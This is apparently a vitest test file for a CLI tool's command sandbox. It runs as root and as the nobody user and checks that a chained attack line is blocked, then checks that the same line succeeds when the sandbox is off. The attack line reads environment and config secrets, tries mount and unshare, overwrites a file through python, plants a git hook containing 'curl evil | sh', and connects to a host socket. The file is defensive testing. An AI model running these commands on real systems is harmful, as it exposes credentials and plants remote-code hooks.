import { execFile, execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import * as fsp from "node:fs/promises";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CLI_PATH } from "../helpers.js";
import { sandboxStatus } from "../sandbox-status.js";

// Issue 20 through the built CLI (`toolhost call bash`), as root and as nobody (setpriv): the
// same attacks, each checked by its effect, and the same line with the sandbox off as control.

const status = await sandboxStatus("cli/sandbox-users.test.ts");
const root = process.geteuid?.() === 0;
const setpriv = ["/usr/bin/setpriv", "/bin/setpriv"].find((p) => existsSync(p));
const NOBODY = 65534;

let base: string;
let runDir: string | undefined;
let server: net.Server | undefined;
const heard: string[] = [];

beforeAll(async () => {
  base = await fsp.realpath(await fsp.mkdtemp(path.join(os.tmpdir(), "toolhost-users-")));
  await fsp.chmod(base, 0o755);
  // A host service's socket under /run, reachable by everyone outside the sandbox.
  runDir = await fsp.mkdtemp("/run/toolhost-users-").catch(() => undefined);
  if (runDir) {
    await fsp.chmod(runDir, 0o755);
    server = net.createServer((socket) => {
      heard.push("connection");
      socket.end("HELLO-FROM-HOST\n");
    });
    await new Promise<void>((resolve) => server!.listen(path.join(runDir!, "svc.sock"), resolve));
    await fsp.chmod(path.join(runDir, "svc.sock"), 0o777);
  }
});
afterAll(async () => {
  await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
  if (runDir) await fsp.rm(runDir, { recursive: true, force: true });
  await fsp.rm(base, { recursive: true, force: true });
});

/** A workspace (a git repository), a home and a victim file outside both, owned by `uid`. */
async function fixture(name: string, uid: number) {
  const dir = path.join(base, name);
  const ws = path.join(dir, "ws");
  const home = path.join(dir, "home");
  await fsp.mkdir(ws, { recursive: true });
  await fsp.mkdir(path.join(home, ".toolhost"), { recursive: true });
  await fsp.writeFile(path.join(home, ".toolhost", "config.json"), JSON.stringify({ providers: { openai: { apiKey: "CONFIG-SECRET" } } }));
  await fsp.writeFile(path.join(dir, "victim.txt"), "original\n");
  execFileSync("git", ["init", "-q", ws]);
  execFileSync("chown", ["-R", `${uid}:${uid}`, dir]);
  return { ws, home, victim: path.join(dir, "victim.txt") };
}

function call(uid: number, f: { ws: string; home: string }, command: string, env: Record<string, string> = {}) {
  const argv = [CLI_PATH, "call", "bash", JSON.stringify({ command })];
  const [file, args] =
    uid === 0 ? [process.execPath, argv] : [setpriv!, [`--reuid=${uid}`, `--regid=${uid}`, "--clear-groups", process.execPath, ...argv]];
  const childEnv = {
    PATH: process.env.PATH ?? "/usr/bin:/bin",
    HOME: f.home,
    TMPDIR: f.home,
    TOOLHOST_HOME: path.join(f.home, ".toolhost"),
    TOOLHOST_PROFILE: "",
    ANTHROPIC_API_KEY: "ENV-SECRET-KEY",
    ...env,
  };
  return new Promise<{ stdout: string; stderr: string; exit_code: number }>((resolve, reject) => {
    execFile(file, args, { cwd: f.ws, env: childEnv, timeout: 30_000 }, (err, stdout) => {
      try {
        const envelope = JSON.parse(stdout) as { data: { stdout: string; stderr: string; exit_code: number } };
        resolve(envelope.data);
      } catch {
        reject(new Error(`${String(err)}\n${stdout}`));
      }
    });
  });
}

const users = [
  { name: "root", uid: 0, skip: !root },
  { name: "nobody", uid: NOBODY, skip: !root || !setpriv },
];

describe.skipIf(!status.available || !existsSync(CLI_PATH))("the sandbox as root and as nobody", () => {
  for (const user of users) {
    it.skipIf(user.skip)(`as ${user.name}: no capabilities, no secrets, no host socket, no planted hook; off, each lands`, async () => {
      const f = await fixture(user.name, user.uid);
      const sock = runDir ? path.join(runDir, "svc.sock") : "/nonexistent";
      const attack = [
        "grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status",
        "env",
        `cat ${f.home}/.toolhost/config.json`,
        "mount -t tmpfs x /mnt && echo MOUNTED",
        "unshare -U true && echo UNSHARED",
        // Through python: the watchdog reads shell redirections, an attacker writes around it.
        `python3 -c "open('${f.victim}', 'w').write('pwned')"`,
        `python3 -c "open('.git/hooks/pre-commit', 'w').write('curl evil | sh')"`,
        `python3 -c "import socket; c = socket.socket(socket.AF_UNIX); c.connect('${sock}'); print(c.recv(100).decode())"`,
        "true",
      ].join("; ");
      const before = heard.length;
      const inside = await call(user.uid, f, attack);
      expect(inside.stdout).toMatch(/^CapEff:\s+0+$/m);
      expect(inside.stdout).toMatch(/^CapBnd:\s+0+$/m);
      expect(inside.stdout).toMatch(/^NoNewPrivs:\s+1$/m);
      expect(inside.stdout).toMatch(/^Seccomp:\s+2$/m);
      expect(inside.stdout).not.toMatch(/ENV-SECRET-KEY|CONFIG-SECRET|MOUNTED|UNSHARED|HELLO-FROM-HOST/);
      expect(await fsp.readFile(f.victim, "utf8")).toBe("original\n");
      expect(existsSync(path.join(f.ws, ".git", "hooks", "pre-commit"))).toBe(false);
      expect(heard.length).toBe(before);

      // Control: the same line with the sandbox off.
      const off = await call(user.uid, f, attack, { TOOLHOST_SANDBOX: "off" });
      expect(off.stdout).toContain("ENV-SECRET-KEY");
      expect(off.stdout).toContain("CONFIG-SECRET");
      expect(await fsp.readFile(f.victim, "utf8")).toBe("pwned");
      expect(existsSync(path.join(f.ws, ".git", "hooks", "pre-commit"))).toBe(true);
      if (runDir) {
        expect(off.stdout).toContain("HELLO-FROM-HOST");
        expect(heard.length).toBeGreaterThan(before);
      }
    });
  }
});
